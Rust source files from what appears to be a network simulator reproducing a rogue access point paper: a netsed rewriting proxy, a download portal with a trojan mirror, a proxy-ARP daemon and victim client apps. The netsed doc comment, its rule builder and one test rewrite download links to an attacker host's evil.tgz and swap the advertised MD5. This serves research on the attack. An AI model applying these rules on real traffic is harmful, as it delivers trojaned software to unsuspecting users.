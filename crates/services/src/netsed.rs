//! netsed — the TCP stream editor (Zalewski, ref \[16\] in the paper).
//!
//! A transparent proxy that forwards a TCP session while applying
//! search-and-replace rules to the bytes. The paper's invocation:
//!
//! ```text
//! netsed tcp 10101 Target-IP 80 \
//!     s/href=file.tgz/href=http:%2f%2fAttacker-IP%2fevil.tgz \
//!     s/RealMD5SUM/FakeMD5SUM
//! ```
//!
//! Faithfully to the original tool, rules are applied **per received
//! chunk**: a match that straddles two TCP segments is *not* rewritten —
//! the limitation §4.2 of the paper concedes ("netsed will not match
//! strings that cross packet boundaries") and which experiment E2
//! quantifies by sweeping the victim's MSS.

use bytes::Bytes;
use rogue_netstack::{Host, Ipv4Addr, SocketHandle};
use rogue_sim::SimTime;

use crate::apps::{App, AppEvent};
use crate::http::find_subslice;

/// One `s/search/replace` rule over raw bytes.
#[derive(Clone, Debug, PartialEq)]
pub struct NetsedRule {
    /// Bytes to find.
    pub search: Vec<u8>,
    /// Bytes to substitute.
    pub replace: Vec<u8>,
}

impl NetsedRule {
    /// Build a rule from string literals.
    pub fn new(search: &str, replace: &str) -> NetsedRule {
        NetsedRule {
            search: search.as_bytes().to_vec(),
            replace: replace.as_bytes().to_vec(),
        }
    }
}

/// Apply all rules to one chunk, replacing every occurrence. Returns the
/// rewritten chunk and the number of replacements made. Copy-on-write:
/// a chunk no rule matches is returned as-is, still sharing its
/// allocation — the proxy only pays for bytes it actually edits.
pub fn apply_rules(rules: &[NetsedRule], chunk: Bytes) -> (Bytes, u64) {
    let mut data: Option<Vec<u8>> = None;
    let mut hits = 0;
    for rule in rules {
        if rule.search.is_empty() {
            continue;
        }
        let mut from = 0;
        loop {
            let hay: &[u8] = data.as_deref().unwrap_or(&chunk);
            let Some(pos) = find_subslice(&hay[from..], &rule.search) else {
                break;
            };
            let at = from + pos;
            let buf = data.get_or_insert_with(|| chunk.to_vec());
            buf.splice(at..at + rule.search.len(), rule.replace.iter().copied());
            from = at + rule.replace.len();
            hits += 1;
        }
    }
    match data {
        Some(edited) => (edited.into(), hits),
        None => (chunk, hits),
    }
}

struct Session {
    client: SocketHandle,
    upstream: SocketHandle,
}

/// The proxy app: listens on `listen_port`, connects onward to
/// `target`, rewrites both directions.
pub struct Netsed {
    listen_port: u16,
    target: (Ipv4Addr, u16),
    rules: Vec<NetsedRule>,
    listener: Option<SocketHandle>,
    sessions: Vec<Session>,
    /// Total replacements applied.
    pub replacements: u64,
    /// Chunks examined.
    pub chunks: u64,
    /// Sessions accepted.
    pub sessions_total: u64,
}

impl Netsed {
    /// `netsed tcp <listen_port> <target ip> <target port> rules…`
    pub fn new(listen_port: u16, target: (Ipv4Addr, u16), rules: Vec<NetsedRule>) -> Netsed {
        Netsed {
            listen_port,
            target,
            rules,
            listener: None,
            sessions: Vec::new(),
            replacements: 0,
            chunks: 0,
            sessions_total: 0,
        }
    }

    /// The paper's two rules, built from the genuine page strings.
    pub fn paper_rules(attacker_ip: Ipv4Addr, real_md5: &str, fake_md5: &str) -> Vec<NetsedRule> {
        vec![
            NetsedRule::new(
                "href=file.tgz",
                // %2f is ASCII hex for '/' — decoded by the client.
                &format!("href=http://{attacker_ip}%2fevil.tgz"),
            ),
            NetsedRule::new(real_md5, fake_md5),
        ]
    }

    fn shuttle(&mut self, now: SimTime, host: &mut Host, from: SocketHandle, to: SocketHandle) {
        loop {
            let chunk = host.tcp_recv(from, 64 * 1024);
            if chunk.is_empty() {
                break;
            }
            self.chunks += 1;
            let (rewritten, hits) = apply_rules(&self.rules, chunk.into());
            self.replacements += hits;
            host.tcp_send(now, to, &rewritten);
        }
    }
}

impl App for Netsed {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        let listener = *self
            .listener
            .get_or_insert_with(|| host.tcp_listen(self.listen_port));
        while let Some(client) = host.tcp_accept(listener) {
            let upstream = host.tcp_connect(now, self.target.0, self.target.1);
            self.sessions.push(Session { client, upstream });
            self.sessions_total += 1;
        }

        let pairs: Vec<(SocketHandle, SocketHandle)> = self
            .sessions
            .iter()
            .map(|s| (s.client, s.upstream))
            .collect();
        for (client, upstream) in pairs {
            self.shuttle(now, host, client, upstream);
            self.shuttle(now, host, upstream, client);
        }

        // Propagate EOFs and reap dead sessions.
        let mut dead = Vec::new();
        for (i, s) in self.sessions.iter().enumerate() {
            let client_eof = host.tcp_eof(s.client);
            let upstream_eof = host.tcp_eof(s.upstream);
            if client_eof {
                host.tcp_close(now, s.upstream);
            }
            if upstream_eof {
                host.tcp_close(now, s.client);
            }
            if (host.tcp_is_closed(s.client) || client_eof)
                && (host.tcp_is_closed(s.upstream) || upstream_eof)
                && host.tcp_is_closed(s.client)
                && host.tcp_is_closed(s.upstream)
            {
                dead.push(i);
            }
        }
        for i in dead.into_iter().rev() {
            let s = self.sessions.remove(i);
            host.tcp_release(s.client);
            host.tcp_release(s.upstream);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rewrite_within_one_chunk() {
        let rules = vec![NetsedRule::new(
            "href=file.tgz",
            "href=http://6.6.6.6/evil.tgz",
        )];
        let page = Bytes::from_static(b"<a href=file.tgz>get it</a>");
        let (out, hits) = apply_rules(&rules, page);
        assert_eq!(hits, 1);
        assert_eq!(
            String::from_utf8_lossy(&out),
            "<a href=http://6.6.6.6/evil.tgz>get it</a>"
        );
    }

    #[test]
    fn multiple_occurrences_all_replaced() {
        let rules = vec![NetsedRule::new("aa", "b")];
        let (out, hits) = apply_rules(&rules, Bytes::from_static(b"aaaa-aa"));
        assert_eq!(hits, 3);
        assert_eq!(&out[..], b"bb-b");
    }

    #[test]
    fn no_match_passthrough() {
        let rules = vec![NetsedRule::new("zzz", "yyy")];
        let chunk = Bytes::from_static(b"hello");
        let before = chunk.as_ptr();
        let (out, hits) = apply_rules(&rules, chunk);
        assert_eq!(hits, 0);
        assert_eq!(&out[..], b"hello");
        assert_eq!(
            out.as_ptr(),
            before,
            "passthrough must share the allocation"
        );
    }

    #[test]
    fn replacement_can_grow_and_shrink() {
        let rules = vec![
            NetsedRule::new("short", "a much longer replacement"),
            NetsedRule::new("delete-me", ""),
        ];
        let (out, hits) = apply_rules(&rules, Bytes::from_static(b"short delete-me end"));
        assert_eq!(hits, 2);
        assert_eq!(&out[..], b"a much longer replacement  end");
    }

    #[test]
    fn boundary_straddle_is_missed() {
        // The paper's admitted limitation, in miniature: the match does
        // not fire when split across two chunks.
        let rules = vec![NetsedRule::new("RealMD5SUM", "FakeMD5SUM")];
        let whole = Bytes::from_static(b"MD5SUM: RealMD5SUM done");
        let (_, hits_whole) = apply_rules(&rules, whole.clone());
        assert_eq!(hits_whole, 1);

        // Split inside the match: both halves are views of `whole`.
        let (_, h1) = apply_rules(&rules, whole.slice(..12));
        let (_, h2) = apply_rules(&rules, whole.slice(12..));
        assert_eq!(h1 + h2, 0, "straddling match must be missed");
    }

    #[test]
    fn empty_search_ignored() {
        let rules = vec![NetsedRule {
            search: vec![],
            replace: b"x".to_vec(),
        }];
        let (out, hits) = apply_rules(&rules, Bytes::from_static(b"data"));
        assert_eq!(hits, 0);
        assert_eq!(&out[..], b"data");
    }

    #[test]
    fn paper_rules_shape() {
        let rules = Netsed::paper_rules(
            Ipv4Addr::new(192, 168, 0, 1),
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
        );
        assert_eq!(rules.len(), 2);
        assert_eq!(rules[0].search, b"href=file.tgz");
        assert!(String::from_utf8_lossy(&rules[0].replace).contains("%2f"));
    }
}
