//! The target download portal of Section 4.1, and the attacker's mirror.
//!
//! "We set up a sample target download web page which contained a
//! downloadable binary, a link to that downloadable binary and an MD5SUM
//! of that binary."

use std::collections::HashMap;

use bytes::Bytes;
use rogue_crypto::md5_hex;
use rogue_sim::SimRng;

/// Static site content: path → (content type, body).
#[derive(Clone, Debug, Default)]
pub struct SiteContent {
    routes: HashMap<String, (String, Bytes)>,
}

impl SiteContent {
    /// Empty site.
    pub fn new() -> SiteContent {
        SiteContent::default()
    }

    /// Add a resource.
    pub fn add(&mut self, path: &str, content_type: &str, body: impl Into<Bytes>) {
        self.routes
            .insert(path.to_string(), (content_type.to_string(), body.into()));
    }

    /// Look up a resource.
    pub fn get(&self, path: &str) -> Option<(&str, &Bytes)> {
        self.routes.get(path).map(|(ct, b)| (ct.as_str(), b))
    }

    /// Number of resources.
    pub fn len(&self) -> usize {
        self.routes.len()
    }

    /// True when the site has no resources.
    pub fn is_empty(&self) -> bool {
        self.routes.is_empty()
    }
}

/// Deterministically generate a "software release" binary of `len` bytes.
pub fn make_binary(rng: &mut SimRng, len: usize) -> Bytes {
    let mut v = vec![0u8; len];
    rng.fill_bytes(&mut v);
    Bytes::from(v)
}

/// The genuine download portal: page + binary + advertised MD5SUM.
#[derive(Clone, Debug)]
pub struct DownloadPortal {
    /// The site to serve.
    pub site: SiteContent,
    /// The genuine binary bytes.
    pub file: Bytes,
    /// Its genuine md5 (hex).
    pub real_md5: String,
    /// Path of the page.
    pub page_path: String,
    /// Path of the binary.
    pub file_path: String,
}

/// Build the Section 4.1 portal. The page embeds the link exactly as in
/// the paper (`href=file.tgz`) and the checksum as `MD5SUM: <hex>`.
pub fn download_portal(file: Bytes) -> DownloadPortal {
    download_portal_padded(file, 0)
}

/// Like [`download_portal`], with `pad` filler bytes ahead of the
/// content. Varying the pad shifts where the interesting strings fall
/// relative to TCP segment boundaries — the E2 boundary-miss experiment
/// randomizes it per replication.
pub fn download_portal_padded(file: Bytes, pad: usize) -> DownloadPortal {
    let real_md5 = md5_hex(&file);
    let filler: String = "x".repeat(pad);
    let page = format!(
        "<html><!--{filler}--><head><title>Get our software</title></head><body>\
         <h1>Software Release</h1>\
         <p>Download: <a href=file.tgz>file.tgz</a></p>\
         <p>MD5SUM: {real_md5}</p>\
         </body></html>"
    );
    let mut site = SiteContent::new();
    site.add("/download.html", "text/html", page.into_bytes());
    site.add("/file.tgz", "application/octet-stream", file.clone());
    DownloadPortal {
        site,
        file,
        real_md5,
        page_path: "/download.html".into(),
        file_path: "/file.tgz".into(),
    }
}

/// The attacker's server content: the trojaned binary at `/evil.tgz`.
/// Returns (site, trojan md5 hex).
pub fn trojan_site(trojan: Bytes) -> (SiteContent, String) {
    let md5 = md5_hex(&trojan);
    let mut site = SiteContent::new();
    site.add("/evil.tgz", "application/octet-stream", trojan);
    (site, md5)
}

/// A simple "news" page for the §5.1 trustworthy-website scenario.
pub fn news_site() -> SiteContent {
    let mut site = SiteContent::new();
    site.add(
        "/index.html",
        "text/html",
        Bytes::from_static(
            b"<html><head><title>World News</title></head><body>\
              <h1>Top Stories</h1><p>Nothing bad happened today.</p>\
              </body></html>",
        ),
    );
    site
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::{find_href, find_md5sum};
    use rogue_sim::Seed;

    #[test]
    fn portal_page_is_scrapable() {
        let mut rng = SimRng::new(Seed(1));
        let portal = download_portal(make_binary(&mut rng, 1000));
        let (_, page) = portal.site.get("/download.html").unwrap();
        assert_eq!(find_href(page).as_deref(), Some("file.tgz"));
        assert_eq!(find_md5sum(page).as_deref(), Some(portal.real_md5.as_str()));
        let (_, file) = portal.site.get("/file.tgz").unwrap();
        assert_eq!(rogue_crypto::md5_hex(file), portal.real_md5);
    }

    #[test]
    fn binaries_are_deterministic_per_seed() {
        let a = make_binary(&mut SimRng::new(Seed(7)), 64);
        let b = make_binary(&mut SimRng::new(Seed(7)), 64);
        let c = make_binary(&mut SimRng::new(Seed(8)), 64);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn trojan_differs_from_genuine() {
        let mut rng = SimRng::new(Seed(1));
        let real = make_binary(&mut rng, 512);
        let troj = make_binary(&mut rng, 512);
        let portal = download_portal(real);
        let (site, troj_md5) = trojan_site(troj);
        assert_ne!(portal.real_md5, troj_md5);
        assert!(site.get("/evil.tgz").is_some());
    }

    #[test]
    fn site_lookup_misses() {
        let site = news_site();
        assert!(site.get("/index.html").is_some());
        assert!(site.get("/missing").is_none());
        assert!(!site.is_empty());
    }
}
