//! parprouted — the proxy-ARP bridging daemon (Ivaschenko, ref \[6\]).
//!
//! The paper's gateway runs `parprouted wlan0 eth1` to transparently
//! bridge the rogue-AP side and the corporate side. The daemon's job is
//! simple: watch which IP addresses are seen (via ARP) on which
//! interface, and install /32 host routes so the kernel forwards between
//! the two; the host's `proxy_arp` flag then answers ARP queries for
//! hosts that live on the *other* side.
//!
//! This reproduces Appendix A of the paper: the static part of the bridge
//! (`route add -host … dev …`, IP forwarding, proxy ARP) is scenario
//! setup; the dynamic learning is this daemon.

use std::collections::HashMap;

use rogue_netstack::{Host, IfIndex, Ipv4Addr};
use rogue_sim::{SimDuration, SimTime};

use crate::apps::{App, AppEvent};

/// The daemon.
pub struct Parprouted {
    /// The two bridged interfaces.
    bridged: [IfIndex; 2],
    /// Last interface we installed a route toward, per host.
    installed: HashMap<Ipv4Addr, IfIndex>,
    period: SimDuration,
    next_scan: SimTime,
    /// Targets probed recently (throttle, cleared each scan).
    probed: Vec<Ipv4Addr>,
    /// Routes installed over the run.
    pub routes_installed: u64,
    /// Route flaps (host moved between interfaces).
    pub route_moves: u64,
    /// Active ARP probes sent toward the opposite side.
    pub probes_sent: u64,
}

impl Parprouted {
    /// `parprouted <if_a> <if_b>`.
    pub fn new(if_a: IfIndex, if_b: IfIndex) -> Parprouted {
        Parprouted {
            bridged: [if_a, if_b],
            installed: HashMap::new(),
            period: SimDuration::from_millis(100),
            next_scan: SimTime::ZERO,
            probed: Vec::new(),
            routes_installed: 0,
            route_moves: 0,
            probes_sent: 0,
        }
    }
}

impl App for Parprouted {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        // Active side of the bridge: an ARP request we could not answer
        // on one bridged interface triggers a probe on the other. (Real
        // parprouted queries across the bridge the same way.) This runs
        // every poll — waiting for the next scan would outlast the
        // requester's own ARP retry budget.
        let misses: Vec<(Ipv4Addr, IfIndex)> = host.arp_misses.drain(..).collect();
        for (target, ingress) in misses {
            if !self.bridged.contains(&ingress) || self.probed.contains(&target) {
                continue;
            }
            let other = if ingress == self.bridged[0] {
                self.bridged[1]
            } else {
                self.bridged[0]
            };
            host.send_arp_probe(other, target);
            self.probed.push(target);
            self.probes_sent += 1;
        }
        if now < self.next_scan {
            return;
        }
        self.next_scan = now + self.period;
        self.probed.clear();

        // Own addresses never get host routes.
        let own: Vec<Ipv4Addr> = (0..host.iface_count()).map(|i| host.iface(i).ip).collect();
        let learned: Vec<(Ipv4Addr, IfIndex)> = host
            .arp_iface
            .iter()
            .filter(|(ip, ifx)| self.bridged.contains(ifx) && !own.contains(ip))
            .map(|(ip, ifx)| (*ip, *ifx))
            .collect();

        for (ip, ifx) in learned {
            match self.installed.get(&ip) {
                Some(&cur) if cur == ifx => {}
                Some(_) => {
                    host.routes.remove_host(ip);
                    host.routes.add_host(ip, ifx);
                    self.installed.insert(ip, ifx);
                    self.route_moves += 1;
                }
                None => {
                    host.routes.add_host(ip, ifx);
                    self.installed.insert(ip, ifx);
                    self.routes_installed += 1;
                }
            }
        }
    }

    fn next_wake(&self) -> SimTime {
        self.next_scan
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::MacAddr;
    use rogue_sim::{Seed, SimRng};

    fn gateway() -> Host {
        let mut gw = Host::new("gw", SimRng::new(Seed(1)));
        gw.add_iface(MacAddr::local(1), Ipv4Addr::new(192, 168, 0, 1), 24); // wlan0
        gw.add_iface(MacAddr::local(2), Ipv4Addr::new(192, 168, 0, 2), 24); // eth1
        gw.ip_forward = true;
        gw.proxy_arp = true;
        gw
    }

    #[test]
    fn installs_host_routes_from_arp_learning() {
        let mut gw = gateway();
        let victim = Ipv4Addr::new(192, 168, 0, 50);
        let corp = Ipv4Addr::new(192, 168, 0, 254);
        gw.arp_iface.insert(victim, 0);
        gw.arp_iface.insert(corp, 1);

        let mut d = Parprouted::new(0, 1);
        let mut out = Vec::new();
        d.poll(SimTime::ZERO, &mut gw, &mut out);
        assert!(gw.routes.has_host(victim));
        assert!(gw.routes.has_host(corp));
        assert_eq!(gw.routes.lookup(victim).unwrap().ifindex, 0);
        assert_eq!(gw.routes.lookup(corp).unwrap().ifindex, 1);
        assert_eq!(d.routes_installed, 2);
    }

    #[test]
    fn host_movement_updates_route() {
        let mut gw = gateway();
        let roamer = Ipv4Addr::new(192, 168, 0, 60);
        gw.arp_iface.insert(roamer, 0);
        let mut d = Parprouted::new(0, 1);
        let mut out = Vec::new();
        d.poll(SimTime::ZERO, &mut gw, &mut out);
        assert_eq!(gw.routes.lookup(roamer).unwrap().ifindex, 0);

        gw.arp_iface.insert(roamer, 1);
        d.poll(SimTime::from_millis(200), &mut gw, &mut out);
        assert_eq!(gw.routes.lookup(roamer).unwrap().ifindex, 1);
        assert_eq!(d.route_moves, 1);
    }

    #[test]
    fn own_addresses_never_routed() {
        let mut gw = gateway();
        gw.arp_iface.insert(Ipv4Addr::new(192, 168, 0, 1), 1);
        let mut d = Parprouted::new(0, 1);
        let mut out = Vec::new();
        d.poll(SimTime::ZERO, &mut gw, &mut out);
        assert!(!gw.routes.has_host(Ipv4Addr::new(192, 168, 0, 1)));
    }

    #[test]
    fn non_bridged_interfaces_ignored() {
        let mut gw = gateway();
        gw.add_iface(MacAddr::local(3), Ipv4Addr::new(10, 0, 0, 1), 24); // mgmt if
        let stranger = Ipv4Addr::new(10, 0, 0, 9);
        gw.arp_iface.insert(stranger, 2);
        let mut d = Parprouted::new(0, 1);
        let mut out = Vec::new();
        d.poll(SimTime::ZERO, &mut gw, &mut out);
        assert!(!gw.routes.has_host(stranger));
    }

    #[test]
    fn scan_respects_period() {
        let mut gw = gateway();
        let mut d = Parprouted::new(0, 1);
        let mut out = Vec::new();
        d.poll(SimTime::ZERO, &mut gw, &mut out);
        let wake = d.next_wake();
        assert_eq!(wake, SimTime::from_millis(100));
        // Learning between scans is not picked up until the next scan.
        gw.arp_iface.insert(Ipv4Addr::new(192, 168, 0, 77), 0);
        d.poll(SimTime::from_millis(50), &mut gw, &mut out);
        assert!(!gw.routes.has_host(Ipv4Addr::new(192, 168, 0, 77)));
        d.poll(SimTime::from_millis(100), &mut gw, &mut out);
        assert!(gw.routes.has_host(Ipv4Addr::new(192, 168, 0, 77)));
    }
}
