//! Poll-driven applications and the victim's scripted workflows.

use bytes::Bytes;
use rogue_crypto::md5_hex;
use rogue_netstack::{Host, Ipv4Addr, SocketHandle};
use rogue_sim::{SimDuration, SimTime};

use crate::http::{
    find_href, find_md5sum, get_request, not_found, parse_link, parse_request, parse_response,
    response, LinkTarget,
};
use crate::site::SiteContent;

/// An application bound to one host, driven by the world loop.
///
/// `Send` because the world's parallel burst dispatcher may poll apps
/// from a rayon worker thread (each node — and thus each app — is
/// still owned by exactly one worker at a time).
pub trait App: std::any::Any + Send {
    /// Make progress: read sockets, write sockets, fire timers.
    fn poll(&mut self, now: SimTime, host: &mut Host, out: &mut Vec<AppEvent>);

    /// Earliest instant this app needs a poll independent of I/O.
    fn next_wake(&self) -> SimTime {
        SimTime::FOREVER
    }

    /// Downcast support so experiment code can read results back out of
    /// a world-owned `Box<dyn App>`.
    fn as_any(&self) -> &dyn std::any::Any;

    /// Mutable downcast support.
    fn as_any_mut(&mut self) -> &mut dyn std::any::Any;
}

/// Milestones emitted by applications.
#[derive(Clone, Debug)]
pub enum AppEvent {
    /// A download workflow finished (success or failure).
    DownloadFinished(DownloadOutcome),
    /// A periodic page fetch finished.
    PageFetched {
        /// Body differed from the expected content.
        tampered: bool,
        /// Request→response latency.
        latency: SimDuration,
    },
    /// A periodic page fetch failed (timeout / connection error).
    PageFailed,
}

// ---------------------------------------------------------------------
// HTTP server
// ---------------------------------------------------------------------

/// Serves a [`SiteContent`] over HTTP/1.0.
pub struct HttpServerApp {
    port: u16,
    site: SiteContent,
    listener: Option<SocketHandle>,
    conns: Vec<ServerConn>,
    /// Requests answered.
    pub requests_served: u64,
}

struct ServerConn {
    h: SocketHandle,
    buf: Vec<u8>,
    responded: bool,
}

impl HttpServerApp {
    /// New server on `port`.
    pub fn new(port: u16, site: SiteContent) -> HttpServerApp {
        HttpServerApp {
            port,
            site,
            listener: None,
            conns: Vec::new(),
            requests_served: 0,
        }
    }

    /// Replace the served content (scenario reconfiguration).
    pub fn set_site(&mut self, site: SiteContent) {
        self.site = site;
    }
}

impl App for HttpServerApp {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        let listener = *self
            .listener
            .get_or_insert_with(|| host.tcp_listen(self.port));
        while let Some(h) = host.tcp_accept(listener) {
            self.conns.push(ServerConn {
                h,
                buf: Vec::new(),
                responded: false,
            });
        }
        let mut finished = Vec::new();
        for (i, conn) in self.conns.iter_mut().enumerate() {
            if !conn.responded {
                let chunk = host.tcp_recv(conn.h, 64 * 1024);
                conn.buf.extend_from_slice(&chunk);
                if let Some(req) = parse_request(&conn.buf) {
                    let reply = match self.site.get(&req.path) {
                        Some((ct, body)) if req.method == "GET" => response(200, "OK", ct, body),
                        _ => not_found(),
                    };
                    host.tcp_send(now, conn.h, &reply);
                    host.tcp_close(now, conn.h);
                    conn.responded = true;
                    self.requests_served += 1;
                }
            }
            if host.tcp_is_closed(conn.h) {
                finished.push(i);
            }
        }
        for i in finished.into_iter().rev() {
            let conn = self.conns.remove(i);
            host.tcp_release(conn.h);
        }
    }
}

// ---------------------------------------------------------------------
// Download client (the Section 4.1 victim workflow)
// ---------------------------------------------------------------------

/// What happened to a download attempt.
#[derive(Clone, Debug, Default)]
pub struct DownloadOutcome {
    /// The portal page was fetched and parsed.
    pub page_fetched: bool,
    /// The link found on the page.
    pub link: Option<String>,
    /// The MD5SUM advertised on the page.
    pub advertised_md5: Option<String>,
    /// MD5 of the bytes actually downloaded.
    pub file_md5: Option<String>,
    /// The victim's verification step: downloaded md5 == advertised md5.
    /// **This passing says nothing about the file being genuine** — that
    /// is the paper's whole point.
    pub verified: bool,
    /// Downloaded size.
    pub file_len: usize,
    /// The actual file bytes (the experiment compares them with the
    /// genuine release to decide whether the victim got the trojan).
    pub file_bytes: Option<Bytes>,
    /// Server the file was fetched from (rewritten links change it).
    pub file_server: Option<Ipv4Addr>,
    /// Completion time.
    pub completed_at: Option<SimTime>,
    /// Failure description, if the workflow did not complete.
    pub error: Option<String>,
}

enum DlState {
    Idle,
    FetchingPage { h: SocketHandle, buf: Vec<u8> },
    FetchingFile { h: SocketHandle, buf: Vec<u8> },
    Done,
}

/// The victim: fetch the portal page, follow its link, verify the MD5SUM.
pub struct DownloadClient {
    server: Ipv4Addr,
    page_path: String,
    start_at: SimTime,
    deadline: SimTime,
    state: DlState,
    partial: DownloadOutcome,
    /// Final outcome, set when the workflow ends.
    pub outcome: Option<DownloadOutcome>,
}

impl DownloadClient {
    /// Schedule a download from `server` starting at `start_at`.
    pub fn new(server: Ipv4Addr, page_path: &str, start_at: SimTime, timeout: SimDuration) -> Self {
        DownloadClient {
            server,
            page_path: page_path.to_string(),
            start_at,
            deadline: start_at + timeout,
            state: DlState::Idle,
            partial: DownloadOutcome::default(),
            outcome: None,
        }
    }

    /// True once the workflow ended (see [`DownloadClient::outcome`]).
    pub fn is_done(&self) -> bool {
        matches!(self.state, DlState::Done)
    }

    fn finish(&mut self, now: SimTime, error: Option<String>, out: &mut Vec<AppEvent>) {
        let mut o = std::mem::take(&mut self.partial);
        o.completed_at = Some(now);
        o.error = error;
        out.push(AppEvent::DownloadFinished(o.clone()));
        self.outcome = Some(o);
        self.state = DlState::Done;
    }
}

impl App for DownloadClient {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, out: &mut Vec<AppEvent>) {
        if matches!(self.state, DlState::Done) {
            return;
        }
        if now >= self.deadline {
            self.finish(now, Some("timeout".into()), out);
            return;
        }
        match &mut self.state {
            DlState::Idle => {
                if now >= self.start_at {
                    let h = host.tcp_connect(now, self.server, 80);
                    host.tcp_send(
                        now,
                        h,
                        &get_request(&self.page_path, &self.server.to_string()),
                    );
                    self.state = DlState::FetchingPage { h, buf: Vec::new() };
                }
            }
            DlState::FetchingPage { h, buf } => {
                let h = *h;
                let chunk = host.tcp_recv(h, 64 * 1024);
                buf.extend_from_slice(&chunk);
                if host.tcp_eof(h) || host.tcp_is_closed(h) {
                    let buf = std::mem::take(buf);
                    host.tcp_close(now, h);
                    host.tcp_release(h);
                    let Some((status, body)) = parse_response(&buf) else {
                        self.finish(now, Some("bad page response".into()), out);
                        return;
                    };
                    if status != 200 {
                        self.finish(now, Some(format!("page status {status}")), out);
                        return;
                    }
                    self.partial.page_fetched = true;
                    self.partial.link = find_href(&body);
                    self.partial.advertised_md5 = find_md5sum(&body);
                    let Some(link) = self.partial.link.clone() else {
                        self.finish(now, Some("no link on page".into()), out);
                        return;
                    };
                    let (server, path) = match parse_link(&link) {
                        Some(LinkTarget::Relative(p)) => (self.server, p),
                        Some(LinkTarget::Absolute(ip, p)) => (ip, p),
                        None => {
                            self.finish(now, Some("unparseable link".into()), out);
                            return;
                        }
                    };
                    self.partial.file_server = Some(server);
                    let fh = host.tcp_connect(now, server, 80);
                    host.tcp_send(now, fh, &get_request(&path, &server.to_string()));
                    self.state = DlState::FetchingFile {
                        h: fh,
                        buf: Vec::new(),
                    };
                }
            }
            DlState::FetchingFile { h, buf } => {
                let h = *h;
                let chunk = host.tcp_recv(h, 256 * 1024);
                buf.extend_from_slice(&chunk);
                if host.tcp_eof(h) || host.tcp_is_closed(h) {
                    let buf = std::mem::take(buf);
                    host.tcp_close(now, h);
                    host.tcp_release(h);
                    let Some((status, body)) = parse_response(&buf) else {
                        self.finish(now, Some("bad file response".into()), out);
                        return;
                    };
                    if status != 200 {
                        self.finish(now, Some(format!("file status {status}")), out);
                        return;
                    }
                    let md5 = md5_hex(&body);
                    self.partial.file_len = body.len();
                    self.partial.file_md5 = Some(md5.clone());
                    self.partial.verified =
                        self.partial.advertised_md5.as_deref() == Some(md5.as_str());
                    self.partial.file_bytes = Some(body);
                    self.finish(now, None, out);
                }
            }
            DlState::Done => {}
        }
    }

    fn next_wake(&self) -> SimTime {
        match self.state {
            DlState::Idle => self.start_at,
            DlState::Done => SimTime::FOREVER,
            _ => self.deadline,
        }
    }
}

// ---------------------------------------------------------------------
// Periodic browser (§5.1 "CNN" scenario)
// ---------------------------------------------------------------------

enum BrState {
    Waiting {
        next: SimTime,
    },
    Fetching {
        h: SocketHandle,
        buf: Vec<u8>,
        started: SimTime,
    },
}

/// Repeatedly fetches one page and checks the body against the known
/// genuine content — the "user who only visits large legitimate websites"
/// and whose pages get tampered with anyway.
pub struct BrowserApp {
    server: Ipv4Addr,
    path: String,
    period: SimDuration,
    expected_body: Bytes,
    timeout: SimDuration,
    deadline: SimTime,
    state: BrState,
    /// Pages whose body matched the genuine content.
    pub pages_ok: u64,
    /// Pages that came back altered.
    pub pages_tampered: u64,
    /// Fetches that failed outright.
    pub failures: u64,
}

impl BrowserApp {
    /// New browser fetching `path` from `server` every `period`.
    pub fn new(
        server: Ipv4Addr,
        path: &str,
        expected_body: Bytes,
        first_at: SimTime,
        period: SimDuration,
    ) -> BrowserApp {
        BrowserApp {
            server,
            path: path.to_string(),
            period,
            expected_body,
            timeout: SimDuration::from_secs(10),
            deadline: SimTime::FOREVER,
            state: BrState::Waiting { next: first_at },
            pages_ok: 0,
            pages_tampered: 0,
            failures: 0,
        }
    }
}

impl App for BrowserApp {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, out: &mut Vec<AppEvent>) {
        match &mut self.state {
            BrState::Waiting { next } => {
                if now >= *next {
                    let h = host.tcp_connect(now, self.server, 80);
                    host.tcp_send(now, h, &get_request(&self.path, &self.server.to_string()));
                    self.deadline = now + self.timeout;
                    self.state = BrState::Fetching {
                        h,
                        buf: Vec::new(),
                        started: now,
                    };
                }
            }
            BrState::Fetching { h, buf, started } => {
                let h = *h;
                let started = *started;
                let chunk = host.tcp_recv(h, 64 * 1024);
                buf.extend_from_slice(&chunk);
                let done = host.tcp_eof(h) || host.tcp_is_closed(h);
                let timed_out = now >= self.deadline;
                if done || timed_out {
                    let buf = std::mem::take(buf);
                    host.tcp_abort(now, h);
                    host.tcp_release(h);
                    if timed_out && !done {
                        self.failures += 1;
                        out.push(AppEvent::PageFailed);
                    } else {
                        match parse_response(&buf) {
                            Some((200, body)) => {
                                let tampered = body != self.expected_body;
                                if tampered {
                                    self.pages_tampered += 1;
                                } else {
                                    self.pages_ok += 1;
                                }
                                out.push(AppEvent::PageFetched {
                                    tampered,
                                    latency: now.since(started),
                                });
                            }
                            _ => {
                                self.failures += 1;
                                out.push(AppEvent::PageFailed);
                            }
                        }
                    }
                    self.state = BrState::Waiting {
                        next: now + self.period,
                    };
                }
            }
        }
    }

    fn next_wake(&self) -> SimTime {
        match &self.state {
            BrState::Waiting { next } => *next,
            BrState::Fetching { .. } => self.deadline,
        }
    }
}

#[cfg(test)]
mod tests {
